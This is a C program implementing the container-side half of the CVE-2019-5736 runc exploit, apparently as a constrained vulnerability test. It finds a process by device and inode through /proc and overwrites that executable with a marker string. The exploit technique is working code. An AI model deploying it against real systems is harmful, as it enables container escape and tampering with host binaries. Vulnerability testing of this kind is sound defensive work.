/* The inner half of CVE-2019-5736: runs in a container, waits for a process whose program is the
 * file to attack, takes hold of that file, lets the process end, and writes into the file. Prints
 * "held" if it could open the file, "wrote" if it could write into it. It never writes into any
 * other file than the one that it is told: device and inode number are arguments, because a loose
 * attacker hits whatever enters the container, such as the host's nsenter.
 *
 *   attacker FIFO SECONDS DEVICE INODE   attack; FIFO is where the trapped process waits
 *   attacker wait FIFO                   be a victim: wait until somebody writes */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static unsigned long long target_device, target_inode;

static void release(const char *fifo)
{
	int fd = open(fifo, O_WRONLY | O_NONBLOCK);

	if (fd >= 0) {
		if (write(fd, "x", 1) < 0)
			puts("fifo");
		close(fd);
	}
}

static void overwrite(int held, const char *fifo)
{
	char path[64];

	puts("held");
	fflush(stdout);
	snprintf(path, sizeof(path), "/proc/self/fd/%d", held);
	for (int i = 0; i < 200000; i++) {
		int fd = open(path, O_WRONLY);

		if (fd >= 0) {
			if (write(fd, "OVERWRITTEN", 11) == 11)
				puts("wrote");
			fflush(stdout);
			close(fd);
			return;
		}
		if (errno != ETXTBSY)
			return;
		release(fifo);
		sched_yield();
	}
}

static void look(const char *fifo)
{
	DIR *proc = opendir("/proc");
	struct dirent *entry;

	while (proc && (entry = readdir(proc))) {
		char path[300];
		struct stat s;
		int fd;

		if (entry->d_name[0] < '1' || entry->d_name[0] > '9')
			continue;
		snprintf(path, sizeof(path), "/proc/%s/exe", entry->d_name);
		fd = open(path, O_RDONLY | O_CLOEXEC);
		if (fd < 0)
			continue;
		if (fstat(fd, &s) == 0 && s.st_dev == target_device && s.st_ino == target_inode)
			overwrite(fd, fifo);
		close(fd);
	}
	if (proc)
		closedir(proc);
}

static int wait_on(const char *fifo)
{
	char byte;
	int fd = open(fifo, O_RDONLY);

	return fd < 0 || read(fd, &byte, 1) < 0;
}

int main(int argc, char **argv)
{
	time_t end;

	if (argc == 3 && strcmp(argv[1], "wait") == 0)
		return wait_on(argv[2]);
	if (argc != 5)
		return 1;
	target_device = strtoull(argv[3], NULL, 10);
	target_inode = strtoull(argv[4], NULL, 10);
	end = time(NULL) + atoi(argv[2]);
	puts("looking");
	fflush(stdout);
	while (time(NULL) < end)
		look(argv[1]);
	return 0;
}
